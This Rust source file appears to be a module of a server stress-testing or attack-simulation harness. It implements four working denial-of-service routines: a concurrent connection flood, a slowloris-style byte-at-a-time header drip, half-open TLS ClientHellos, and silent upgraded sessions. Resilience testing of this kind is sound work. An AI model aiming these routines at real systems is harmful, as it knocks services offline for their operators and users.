//! Connections that come to nothing.

use std::collections::VecDeque;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::sleep;

use super::Attacker;
use super::wire::{connect, player};

/// Connections as fast as they are made, so many at once.
pub(super) async fn connection_flood(attacker: Attacker) {
    const AT_ONCE: usize = 16;
    let each = attacker.size / AT_ONCE;
    attacker
        .crew(AT_ONCE, move |attacker, number| async move {
            let mut open = VecDeque::new();
            while !attacker.is_over() {
                open.extend(connect(attacker.aim.http, attacker.address(number + open.len())).await);
                if open.len() > each {
                    open.pop_front();
                }
                tokio::task::yield_now().await;
            }
        })
        .await;
}

/// A request that never ends, a byte at a time.
pub(super) async fn slow_header_drip(attacker: Attacker) {
    attacker
        .crew(attacker.size, |attacker, number| async move {
            let Some(mut tcp) = connect(attacker.aim.http, attacker.address(number)).await else { return };
            let head = b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ".iter().copied().chain(std::iter::repeat(b'x'));
            for byte in head {
                if tcp.write_all(&[byte]).await.is_err() {
                    return;
                }
                sleep(Duration::from_millis(100)).await;
            }
        })
        .await;
}

/// The beginning of a ClientHello (RFC 8446 §4.1.2), and nothing more.
pub(super) async fn half_open_tls(attacker: Attacker) {
    attacker
        .crew(attacker.size, |attacker, number| async move {
            let Some(mut tcp) = connect(attacker.aim.https, attacker.address(number)).await else { return };
            let mut hello = vec![0x16, 3, 1, 2, 0, 1, 0, 1, 0xFC, 3, 3];
            hello.extend([0x5A; 50]);
            if tcp.write_all(&hello).await.is_ok() {
                let _ = tcp.read(&mut [0; 64]).await;
            }
            sleep(Duration::from_millis(20)).await;
        })
        .await;
}

/// A session that neither says nor reads anything.
pub(super) async fn upgrade_then_silence(attacker: Attacker) {
    attacker
        .crew(attacker.size, |attacker, number| async move {
            let Some(tcp) = player(attacker.aim.http, attacker.address(number)).await else { return };
            sleep(attacker.until.saturating_duration_since(std::time::Instant::now())).await;
            drop(tcp);
        })
        .await;
}
